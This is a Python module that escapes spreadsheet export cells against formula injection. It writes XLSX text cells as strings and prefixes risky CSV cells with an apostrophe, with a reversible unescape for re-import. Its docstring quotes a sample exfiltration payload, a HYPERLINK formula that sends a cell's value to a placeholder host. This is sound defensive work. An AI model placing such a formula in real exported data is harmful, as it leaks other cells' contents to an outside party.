"""Spreadsheet cells that are never formulas.

A comment such as ``=HYPERLINK("http://x/?leak="&L2,"…")``, a model reply or a collected prompt
beginning with ``= + - @`` (or a tab or carriage return, which some spreadsheet programs skip before
a formula) would run as a formula when an admin opens the export. XLSX cells are therefore written
with the string data type, and CSV cells that could start a formula get a leading ``'`` (the
apostrophe Excel and LibreOffice hide and read as "this is text"). ``unescape_csv_text`` reverses
the CSV escape exactly, so ``annotate import`` restores the original text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def escape_csv_text(value: Any) -> Any:
    """``value`` for a CSV cell: text that could start a formula, or that starts with the escape
    character itself, gets one leading apostrophe; other values are returned unchanged."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, _QUOTE)):
        return _QUOTE + value
    return value


def unescape_csv_text(value: Any) -> Any:
    """The inverse of ``escape_csv_text`` for cells read back from a CSV export."""
    if isinstance(value, str) and value.startswith(_QUOTE):
        return value[1:]
    return value


def append_xlsx_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append a row whose text cells are strings (data type ``s``), never formulas."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
